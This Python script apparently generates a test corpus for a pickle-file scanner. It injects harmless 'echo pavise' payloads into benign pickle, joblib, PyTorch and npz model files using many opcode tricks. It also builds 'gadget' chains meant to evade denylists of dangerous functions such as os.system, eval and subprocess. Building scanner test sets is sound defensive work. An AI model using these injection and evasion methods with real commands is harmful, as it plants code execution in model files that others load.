"""Puts a harmless payload into benign model files, at every place where attackers have put one.

    python make-malicious.py BENIGN EVIL [COUNT]

Every file is put together from bytes: nothing here is ever loaded, and the payloads only say `echo
pavise`. For each of the ways below, COUNT benign files (12 unless told) are chosen so that many
families come up; the name of a file says the way and the payload. `manifest.json` in EVIL says for each
file where it came from, the way, and the name that a scanner has to report.
"""

from __future__ import annotations

import io
import json
import pickletools
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Callable, Iterator

import walk

COMMAND = "echo pavise"
CODE = "print('pavise')"

# (module, name, argument): what REDUCE calls, with one text.
PAYLOADS: list[tuple[str, str, str]] = [
    ("os", "system", COMMAND),
    ("posix", "system", COMMAND),
    ("builtins", "exec", CODE),
    ("builtins", "eval", CODE),
    ("__builtin__", "eval", CODE),
    ("subprocess", "getoutput", COMMAND),
    ("subprocess", "check_output", COMMAND),
    ("runpy", "run_path", "pavise.py"),
    ("importlib", "import_module", "pavise"),
    ("pkgutil", "resolve_name", "os:system"),  # CVE-2026-3490
    ("profile", "run", CODE),  # CVE-2026-53873
    ("cProfile", "run", CODE),
    ("timeit", "timeit", CODE),
    ("pty", "spawn", COMMAND),
    ("webbrowser", "open", "https://pavise.invalid"),
    ("numpy.f2py.crackfortran", "_eval_length", CODE),  # CVE-2025-71339
    ("numpy.testing._private.utils", "runstring", CODE),  # CVE-2025-71355
    ("torch.utils.bottleneck.__main__", "run_cprofile", CODE),  # CVE-2025-71366
    ("torch.hub", "load", "pavise/pavise"),
    ("torch.utils.collect_env", "run", COMMAND),
    ("asyncio.unix_events", "_UnixSubprocessTransport", COMMAND),  # CVE-2025-10157
    ("multiprocessing.util", "spawnv_passfds", COMMAND),
    ("distutils.spawn", "spawn", COMMAND),
    ("logging", "FileHandler", "pavise.log"),  # CVE-2026-56304
    ("uuid", "_get_command_stdout", COMMAND),  # CVE-2026-56315
    ("ssl", "get_server_certificate", "pavise.invalid"),  # CVE-2025-46417
    ("pip", "main", "install"),  # CVE-2025-1716
    ("pickle", "loads", "pavise"),
    ("pandas", "read_pickle", "pavise.pkl"),
    ("numpy", "load", "pavise.npy"),
    ("ctypes", "CDLL", "pavise.so"),
    ("operator", "attrgetter", "system"),
    ("types", "FunctionType", CODE),
    ("joblib", "load", "pavise.joblib"),
    ("mlflow.projects.backend.local", "_run_entry_point", COMMAND),
]


# ── opcodes as bytes ─────────────────────────────────────────────────────────────────────────────


def text(value: str) -> bytes:
    """BINUNICODE, which every protocol understands when it is read."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call(payload: tuple[str, str, str]) -> bytes:
    """GLOBAL, one argument, REDUCE: leaves the result on the stack."""
    module, name, argument = payload
    return b"c" + f"{module}\n{name}\n".encode() + text(argument) + b"\x85R"


def computed(payload: tuple[str, str, str]) -> bytes:
    """STACK_GLOBAL whose two texts come from the memo, where they stand among others."""
    module, name, argument = payload
    first, second = 2_000_000, 2_000_001
    put = b"r" + struct.pack("<I", first)
    put_second = b"r" + struct.pack("<I", second)
    decoy = text("collections") + text("OrderedDict") + b"00"
    get = b"j" + struct.pack("<I", first) + b"j" + struct.pack("<I", second)
    return text(module) + put + b"0" + text(name) + put_second + b"0" + decoy + get + b"\x93" + text(argument) + b"\x85R"


def by_memo(payload: tuple[str, str, str]) -> bytes:
    """The callable goes to the memo, is dropped, and comes back for the call."""
    module, name, argument = payload
    key = struct.pack("<I", 2_000_002)
    return b"c" + f"{module}\n{name}\n".encode() + b"r" + key + b"0" + b"j" + key + text(argument) + b"\x85R"


def by_inst(payload: tuple[str, str, str]) -> bytes:
    """INST of protocol 0."""
    module, name, argument = payload
    return b"(" + b"S" + repr(argument).encode() + b"\n" + b"i" + f"{module}\n{name}\n".encode()


def by_obj(payload: tuple[str, str, str]) -> bytes:
    """OBJ of protocol 1."""
    module, name, argument = payload
    return b"(" + b"c" + f"{module}\n{name}\n".encode() + text(argument) + b"o"


def by_build(payload: tuple[str, str, str]) -> bytes:
    """A plain object whose BUILD state holds the call."""
    return b"cargparse\nNamespace\n)\x81}" + text("pavise") + call(payload) + b"sb"


def by_dict(payload: tuple[str, str, str]) -> bytes:
    """The call as a value four dictionaries deep."""
    made = call(payload)
    for depth in range(4):
        made = b"}" + text(f"level{depth}") + made + b"s"
    return made


def by_newobj(payload: tuple[str, str, str]) -> bytes:
    """NEWOBJ with a name that is no class."""
    module, name, argument = payload
    return b"c" + f"{module}\n{name}\n".encode() + text(argument) + b"\x85\x81"


def by_extension(payload: tuple[str, str, str]) -> bytes:
    """EXT1 asks the registry of copyreg, which says elsewhere what 7 is."""
    return b"\x82\x07" + text(payload[2]) + b"\x85R"


def nested(payload: tuple[str, str, str]) -> bytes:
    """A whole pickle in bytes, and pickle.loads called on them."""
    inner = b"\x80\x04" + call(payload) + b"."
    return b"c_pickle\nloads\n" + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R"


def nested_silent(payload: tuple[str, str, str]) -> bytes:
    """A whole pickle in bytes that nothing loads here."""
    inner = b"\x80\x04" + call(payload) + b"."
    return b"B" + struct.pack("<I", len(inner)) + inner


# ── places in a file ─────────────────────────────────────────────────────────────────────────────


def whole(opcodes: bytes) -> bytes:
    """Opcodes as a pickle of their own."""
    return b"\x80\x02" + opcodes + b"."


def middle(data: bytes, opcodes: bytes) -> bytes | None:
    """Puts opcodes and a POP about half way into a pickle, between two opcodes outside of a frame's head.

    The frame that is open there grows by what comes in, or a reader that checks frames would stop.
    """
    try:
        found = list(pickletools.genops(io.BytesIO(data)))
    except Exception:  # joblib's arrays stand between
        return None
    spots = [position for opcode, _, position in found if opcode.name not in ("PROTO", "FRAME", "STOP") and position]
    if not spots:
        return None
    spot = spots[len(spots) // 2]
    added = opcodes + b"0"
    out = bytearray(data[:spot] + added + data[spot:])
    for opcode, length, position in found:
        if opcode.name == "FRAME" and position < spot <= position + 9 + length:
            out[position + 1 : position + 9] = struct.pack("<Q", length + len(added))
    return bytes(out)


def at_end(data: bytes, opcodes: bytes) -> bytes | None:
    """Puts opcodes right before STOP, and drops what they leave."""
    if data[-1:] != b".":
        return None
    changed = bytearray(data[:-1] + opcodes + b"0.")
    try:
        found = list(pickletools.genops(io.BytesIO(data)))
    except Exception:
        return bytes(changed)
    for opcode, length, position in found:
        if opcode.name == "FRAME" and position + 9 + length == len(data):
            changed[position + 1 : position + 9] = struct.pack("<Q", length + len(opcodes) + 1)
    return bytes(changed)


def in_zip(data: bytes, opcodes: bytes, member_end: str, rename: str | None = None) -> bytes | None:
    """The archive again, with the payload in the member that ends so; or in one more member with that name."""
    out = io.BytesIO()
    changed = False
    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(out, "w") as written:
        for info in archive.infolist():
            content = archive.read(info)
            if info.filename.endswith(member_end) and not rename:
                spoiled = middle(content, opcodes) or at_end(content, opcodes)
                changed = changed or spoiled is not None
                content = spoiled or content
            written.writestr(zipfile.ZipInfo(info.filename), content)
        if rename:
            folder = archive.namelist()[0].split("/")[0]
            written.writestr(zipfile.ZipInfo(f"{folder}/{rename}"), whole(opcodes))
            changed = True
    return out.getvalue() if changed else None


def npz_object(payload: tuple[str, str, str], shape: str = "(1,)") -> bytes:
    """An npy of dtype object whose pickle is the payload."""
    header = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + whole(call(payload))


Way = Callable[[bytes, "tuple[str, str, str]"], "bytes | None"]
PICKLE, ZIP, NPZ, JOBLIB = "pickle", "zip", "npz", "joblib"

WAYS: dict[str, tuple[str, Way]] = {
    "stacked-before": (PICKLE, lambda data, p: whole(call(p)) + data),
    "stacked-after": (PICKLE, lambda data, p: data + whole(call(p))),
    "reduce-middle": (PICKLE, lambda data, p: middle(data, call(p))),
    "reduce-end": (PICKLE, lambda data, p: at_end(data, call(p))),
    "nested-dict": (PICKLE, lambda data, p: middle(data, by_dict(p))),
    "build-state": (PICKLE, lambda data, p: middle(data, by_build(p))),
    "inst": (PICKLE, lambda data, p: middle(data, by_inst(p))),
    "obj": (PICKLE, lambda data, p: middle(data, by_obj(p))),
    "newobj": (PICKLE, lambda data, p: middle(data, by_newobj(p))),
    # At the end: MEMOIZE counts what is in the memo, and later GETs of the benign part would miss.
    "memo": (PICKLE, lambda data, p: at_end(data, by_memo(p))),
    "stack-global": (PICKLE, lambda data, p: at_end(data, computed(p))),
    "nested-pickle": (PICKLE, lambda data, p: middle(data, nested(p))),
    "nested-silent": (PICKLE, lambda data, p: middle(data, nested_silent(p))),
    "extension": (PICKLE, lambda data, p: middle(data, by_extension(p))),
    "joblib-raw-after": (JOBLIB, lambda data, p: at_end(data, call(p))),
    "joblib-zlib": (JOBLIB, lambda data, p: _then(at_end(data, call(p)), lambda raw: zlib.compress(raw))),
    "joblib-bz2": (JOBLIB, lambda data, p: _then(at_end(data, call(p)), lambda raw: __import__("bz2").compress(raw))),
    "joblib-xz": (JOBLIB, lambda data, p: _then(at_end(data, call(p)), lambda raw: __import__("lzma").compress(raw))),
    "torch-data-pkl": (ZIP, lambda data, p: in_zip(data, call(p), "data.pkl")),
    "torch-neutral-member": (ZIP, lambda data, p: in_zip(data, call(p), "", "notes.txt")),
    "npz-object": (NPZ, lambda data, p: _npz(data, "weights.npy", npz_object(p))),
    "npz-neutral-member": (NPZ, lambda data, p: _npz(data, "readme", whole(call(p)))),
}


def _then(data: bytes | None, change: Callable[[bytes], bytes]) -> bytes | None:
    return None if data is None else change(data)


def _npz(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), content)
    return out.getvalue()


# Gadgets that use only names from scientific libraries; each stands alone in a pickle of its own.
def gadgets() -> Iterator[tuple[str, str, bytes]]:
    """(way, name to report, pickle): payloads that no list of dangerous functions has in it."""
    state = b"}" + text("_parse_arg_template") + text(CODE) + b"s"
    yield "gadget-scipy-template", "scipy.stats._continuous_distns.norm_gen", whole(b"cscipy.stats._continuous_distns\nnorm_gen\n)\x81" + state + b"b")
    pairs = text("_parse_arg_template") + text(CODE) + b"\x86\x85"
    yield "gadget-scipy-pairs", "scipy.stats._continuous_distns.norm_gen", whole(b"cscipy.stats._continuous_distns\nnorm_gen\n)\x81" + pairs + b"b")
    for key in ("restore_design_info", "restore_model_spec"):
        state = b"}(" + text(key) + b"\x88" + text("frame") + b"}" + text("formula") + text(f"y ~ {CODE}") + b"ub"
        yield f"gadget-statsmodels-{key}", "statsmodels.base.data.PandasData", whole(b"cstatsmodels.base.data\nPandasData\n)\x81" + state)
    yield "gadget-ufunc", "numpy.core._ufunc_reconstruct", whole(b"cnumpy.core\n_ufunc_reconstruct\n" + text("os") + text("system") + b"\x86R" + text(COMMAND) + b"\x85R")
    yield "gadget-partial", "functools.partial", whole(b"cfunctools\npartial\ncos\nsystem\n\x85R" + b"(cos\nsystem\n" + text(COMMAND) + b"\x85}}tb)R")
    yield "gadget-defaultdict", "os.getcwd", whole(b"ccollections\ndefaultdict\ncos\ngetcwd\n\x85R")
    yield "gadget-rebuild-type", "torch._tensor._rebuild_from_type_v2", whole(b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n" + text(COMMAND) + b"\x85}tR")
    yield "gadget-load-from-bytes", "torch.storage._load_from_bytes", whole(
        b"ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(whole(call(PAYLOADS[0])))) + whole(call(PAYLOADS[0])) + b"\x85R"
    )
    yield "gadget-dill-create-array", "dill._dill._create_array", whole(b"cdill._dill\n_create_array\n(cos\nsystem\n" + text(COMMAND) + b"\x85NNtR")
    yield "gadget-joblib-file", "joblib.numpy_pickle.NDArrayWrapper", whole(b"cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}(" + text("filename") + text("pavise.npy") + text("subclass") + b"Nub")
    yield "gadget-numpy-builtins", "numpy.size", whole(b"cnumpy\nsize\n}" + text("__builtins__") + b"}" + text("x") + b"Kas" + b"sb")
    yield "gadget-dotted", "numpy.os.system", b"\x80\x04" + text("numpy") + text("os.system") + b"\x93" + text(COMMAND) + b"\x85R."
    yield "gadget-getattr", "builtins.getattr", whole(b"cbuiltins\ngetattr\ncos\n__dict__\n" + text("system") + b"\x86R")
    yield "gadget-identity-build", "torch.jit._pickle.restore_type_tag", whole(
        b"ctorch.jit._pickle\nrestore_type_tag\ncsklearn.svm._classes\nSVC\n" + text("") + b"\x86RN}" + text("predict") + b"cnumpy\nmean\ns\x86b"
    )
    yield "gadget-type-three", "builtins.type", whole(b"cbuiltins\ntype\n" + text("X") + b"cbuiltins\nobject\n\x85}\x87R")
    yield "gadget-made-called", "transformers.training_args.TrainingArguments", whole(b"ctransformers.training_args\nTrainingArguments\n" + text("pavise") + b"\x85R")
    yield "gadget-codec", "_codecs.encode", whole(b"c_codecs\nencode\n" + text("pavise") + text("idna") + b"\x86R")
    yield "gadget-broken-tail", "os.system", whole(call(PAYLOADS[0]))[:-1] + b"\xff\xff\xff"
    yield "gadget-no-proto", "os.system", call(PAYLOADS[0]) + b"."
    yield "gadget-frame-straddle", "os.system", b"\x80\x04\x95" + struct.pack("<Q", 3) + call(PAYLOADS[0]) + b"."
    yield "gadget-popped", "os.system", whole(call(PAYLOADS[0]) + b"0N")
    yield "gadget-pos-mark", "os.system", whole(b"(" + call(PAYLOADS[0]) + b"1N")
    yield "gadget-persid", "os.system", whole(b"cos\nsystem\nQ")


# ── choosing and writing ─────────────────────────────────────────────────────────────────────────


def kind(data: bytes, path: Path) -> str | None:
    """What a benign file may be used for."""
    if data[:4] == b"PK\x03\x04":
        return NPZ if path.suffix == ".npz" else ZIP if b"data.pkl" in data else None
    if path.suffix == ".joblib" and data[:1] == b"\x80":
        return JOBLIB
    if data[:1] == b"\x80" or path.name.endswith((".p0.pkl", ".p1.pkl")):
        return PICKLE
    return None


def chosen(files: list[tuple[Path, bytes]], count: int, turn: int) -> list[tuple[Path, bytes]]:
    """A few files from every corner of the list, others for every way."""
    if not files:
        return []
    step = max(1, len(files) // count)
    return [files[(turn * 7 + index * step) % len(files)] for index in range(count * 2)]


def main(arguments: list[str]) -> int:
    if len(arguments) < 2:
        print(__doc__)
        return 2
    benign, evil = Path(arguments[0]), Path(arguments[1])
    count = int(arguments[2]) if len(arguments) > 2 else 12
    by_kind: dict[str, list[tuple[Path, bytes]]] = {}
    for path in sorted(walk.each_file(benign)):
        if path.stat().st_size > 2_000_000:
            continue
        data = path.read_bytes()
        found = kind(data, path)
        if found:
            by_kind.setdefault(found, []).append((path, data))
    manifest = []
    turn = 0
    for way, (needs, make) in WAYS.items():
        written = 0
        for path, data in chosen(by_kind.get(needs, []), count, turn):
            payload = PAYLOADS[turn % len(PAYLOADS)]
            turn += 1
            spoiled = make(data, payload)
            if spoiled is None or written == count:
                continue
            name = f"{written:02}-{payload[0]}.{payload[1]}-{path.name}"
            target = evil / way / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(spoiled)
            report = "EXT1" if way == "extension" else f"{payload[0]}.{payload[1]}"
            manifest.append({"file": f"{way}/{name}", "from": str(path.relative_to(benign)), "way": way, "report": report})
            written += 1
        print(f"{way:24} {written:4}")
    (evil / "gadget").mkdir(parents=True, exist_ok=True)
    for way, report, data in gadgets():
        for ending in ("pkl", "bin", "joblib"):
            (evil / "gadget" / f"{way}.{ending}").write_bytes(data)
            manifest.append({"file": f"gadget/{way}.{ending}", "from": "", "way": way, "report": report})
    (evil / "manifest.json").write_text("[\n" + ",\n".join(json.dumps(one) for one in manifest) + "\n]\n")
    print(f"{len(manifest)} files in {evil}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))


